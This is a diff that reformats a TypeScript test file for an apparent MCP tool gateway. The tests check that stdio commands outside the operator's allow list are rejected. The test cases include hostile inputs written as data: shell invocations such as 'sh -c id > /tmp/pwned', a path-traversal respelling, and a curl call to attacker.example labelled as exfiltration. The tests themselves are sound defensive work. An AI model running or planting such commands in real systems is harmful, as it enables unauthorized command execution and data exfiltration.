@@ -22,7 +22,10 @@ describe('an admin-typed stdio command runs only when the operator listed it', (
     ['a shell by absolute path', { kind: 'stdio', command: '/bin/sh', args: ['-c', 'id > /tmp/pwned'] }],
     ['a shell found on PATH', { kind: 'stdio', command: 'sh', args: ['-c', 'id'] }],
     ['node found on PATH (not the listed absolute path)', { kind: 'stdio', command: 'node', args: ['-e', '1'] }],
-    ['the listed path spelled another way', { kind: 'stdio', command: `${process.execPath.replace(/\/[^/]+$/, '')}/../${process.execPath.split('/').slice(-2).join('/')}`, args: [] }],
+    [
+      'the listed path spelled another way',
+      { kind: 'stdio', command: `${process.execPath.replace(/\/[^/]+$/, '')}/../${process.execPath.split('/').slice(-2).join('/')}`, args: [] },
+    ],
     ['curl to exfiltrate', { kind: 'stdio', command: '/usr/bin/curl', args: ['https://attacker.example/'] }],
   ];
   for (const [what, transport] of attempts) {
@@ -30,7 +33,9 @@ describe('an admin-typed stdio command runs only when the operator listed it', (
       const res = await create('evil', transport);
       expect(res.status).toBe(400);
       const body = (await res.json()) as { errors: Array<{ pointer: string; message: string; code: string }> };
-      expect(body.errors).toContainEqual(expect.objectContaining({ pointer: '/transport/command', code: 'transport_not_allowed', message: expect.stringContaining('TOOLGATE_MCP_COMMANDS') }));
+      expect(body.errors).toContainEqual(
+        expect.objectContaining({ pointer: '/transport/command', code: 'transport_not_allowed', message: expect.stringContaining('TOOLGATE_MCP_COMMANDS') }),
+      );
       expect((await h.call('admin', 'GET', '/v1/mcp-servers/evil')).status).toBe(404);
     });
   }
@@ -45,7 +50,13 @@ describe('an admin-typed stdio command runs only when the operator listed it', (
   it('refuses an edit that swaps an allowed command for another', async () => {
     expect((await create('ok', fixture.transport())).status).toBe(201);
     const got = await h.call('admin', 'GET', '/v1/mcp-servers/ok');
-    const res = await h.call('admin', 'PATCH', '/v1/mcp-servers/ok', { transport: { kind: 'stdio', command: '/bin/sh', args: ['-c', 'id'] } }, { 'if-match': got.headers.get('etag')! });
+    const res = await h.call(
+      'admin',
+      'PATCH',
+      '/v1/mcp-servers/ok',
+      { transport: { kind: 'stdio', command: '/bin/sh', args: ['-c', 'id'] } },
+      { 'if-match': got.headers.get('etag')! },
+    );
     expect(res.status).toBe(400);
   });
 
